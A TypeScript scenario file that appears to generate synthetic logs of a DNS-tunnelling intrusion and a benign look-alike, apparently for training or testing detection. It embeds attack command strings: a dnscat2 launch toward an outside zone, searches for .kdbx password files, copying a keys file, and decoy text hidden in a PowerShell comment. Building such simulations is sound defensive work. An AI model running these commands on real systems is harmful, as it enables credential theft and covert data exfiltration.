import { bluff } from "../decoys.ts";
import { handsOn, openSession } from "../emit/hands.ts";
import { connection, lookUp } from "../emit/wire.ts";
import { intrusion } from "../intrusion.ts";
import { officeTraffic, officeWork } from "../ordinary.ts";
import type { Stage } from "../stage.ts";

/** Commands come and data leaves inside of names that are looked up. */
export const dnsTunnel = intrusion({
  id: "dns-tunnel",
  trade: "DNS tunnelling",
  says: "A program on a workstation asks for commands and carries data out inside of names, where only DNS leaves the network.",
  sources: ["zeek dns", "zeek conn", "sysmon"],
  steps: [
    ["starts", "T1059.001", "the program is started"],
    ["asks-for-commands", "T1071.004", "commands come in answers"],
    ["collects", "T1005", "files are gathered"],
    ["carries-out", "T1048.003", "data leaves inside of names"],
  ],
  attack(stage) {
    officeWork(stage, 3);
    officeTraffic(stage);
    const person = stage.person(0);
    const host = stage.workstation(0);
    const zone = stage.by({
      noisy: `t.${stage.outsideName("ns")}`,
      quiet: stage.outsideName("cdn"),
      deceptive: `authorised-test.${stage.outsideName("ns")}`,
    });
    const hands = handsOn(host, openSession(host, stage.account(person.name)));
    const shell = stage.step("starts", () =>
      hands.run(
        stage.at(0),
        stage.by({
          noisy: `C:\\Users\\${person.name}\\AppData\\Local\\Temp\\dnscat2.exe`,
          quiet: "powershell.exe",
          deceptive: "powershell.exe",
        }),
        stage.by({
          noisy: `dnscat2.exe --dns domain=${zone}`,
          quiet: `powershell.exe -File C:\\Users\\${person.name}\\Documents\\sync.ps1`,
          deceptive: `powershell.exe -c "<# ${bluff(stage)} #> . .\\test-dns.ps1"`,
        }),
      ),
    );
    askForCommands(stage, { host, zone });
    stage.step("collects", () =>
      hands.run(
        stage.at(30),
        "cmd.exe",
        stage.by({
          noisy: "cmd.exe /c dir /s /b C:\\Users\\*.kdbx C:\\Users\\*.docx",
          quiet: "cmd.exe /c copy D:\\Projects\\keys.txt %TEMP%",
          deceptive: "cmd.exe /c type C:\\Users\\Public\\plans.txt",
        }),
        shell,
      ),
    );
    carryOut(stage, { host, zone });
    return [host.name, person.name, host.address];
  },
  twin(stage) {
    officeWork(stage, 3);
    officeTraffic(stage);
    const host = stage.workstation(0);
    const hands = handsOn(host, openSession(host, stage.account(stage.person(0).name)));
    hands.run(stage.at(0), "powershell.exe", "powershell.exe -File C:\\Scripts\\inventory.ps1");
    // An antivirus asks a reputation service by hash, a mail server looks for keys, and a content network has long names.
    for (let at = 0; at < 45; at++)
      lookUp(stage, stage.at(1 + at), {
        from: host.address,
        query: `${stage.chance.hex(32)}.avqs.reputation.example.net`,
        type: "TXT",
        answers: ["v=1 clean"],
      });
    for (let at = 0; at < 30; at++)
      lookUp(stage, stage.at(2 + at), {
        from: `${stage.company.net}.1.25`,
        query: `selector${at % 3}._domainkey.example${at % 5}.org`,
        type: "TXT",
        answers: ["v=DKIM1; k=rsa; p=MIIB"],
      });
    for (let at = 0; at < 25; at++)
      lookUp(stage, stage.at(3 + at), { from: host.address, query: `d${stage.chance.hex(13)}.cloudfront.net`, answers: ["192.0.2.70"] });
    hands.run(stage.at(30), "cmd.exe", "cmd.exe /c dir /s C:\\Scripts");
    connection(stage, stage.at(35), {
      from: host.address,
      to: `${stage.company.net}.1.10`,
      port: 53,
      service: "dns",
      seconds: 40,
      sent: 9_000,
      received: 12_000,
    });
  },
});

function carryOut(stage: Stage, { host, zone }: { host: ReturnType<Stage["workstation"]>; zone: string }): void {
  stage.step("carries-out", () => {
    const count = stage.by({ noisy: 260, quiet: 60, deceptive: 140 });
    for (let at = 0; at < count; at++) {
      const label = stage.chance.word(stage.by({ noisy: 60, quiet: 28, deceptive: 48 }), "abcdefghijklmnopqrstuvwxyz234567");
      lookUp(stage, stage.at(34) + at * stage.by({ noisy: 900, quiet: 31_000, deceptive: 4_000 }), {
        from: host.address,
        query: `${label}.${at}.${zone}`,
        type: stage.by({ noisy: "NULL", quiet: "A", deceptive: "CNAME" }),
        code: at % 3 ? "NOERROR" : "NXDOMAIN",
      });
    }
    connection(stage, stage.at(35), {
      from: host.address,
      to: `${stage.company.net}.1.10`,
      port: 53,
      service: "dns",
      seconds: 900,
      sent: 240_000,
      received: 90_000,
    });
  });
}

function askForCommands(stage: Stage, { host, zone }: { host: ReturnType<Stage["workstation"]>; zone: string }): void {
  stage.step("asks-for-commands", () => {
    const count = stage.by({ noisy: 80, quiet: 14, deceptive: 40 });
    for (let at = 0; at < count; at++)
      lookUp(stage, stage.at(1 + at * stage.by({ noisy: 0.1, quiet: 1.5, deceptive: 0.4 })), {
        from: host.address,
        query: `${stage.chance.hex(stage.by({ noisy: 50, quiet: 24, deceptive: 40 }))}.${zone}`,
        type: "TXT",
        answers: [stage.chance.word(60)],
      });
  });
}
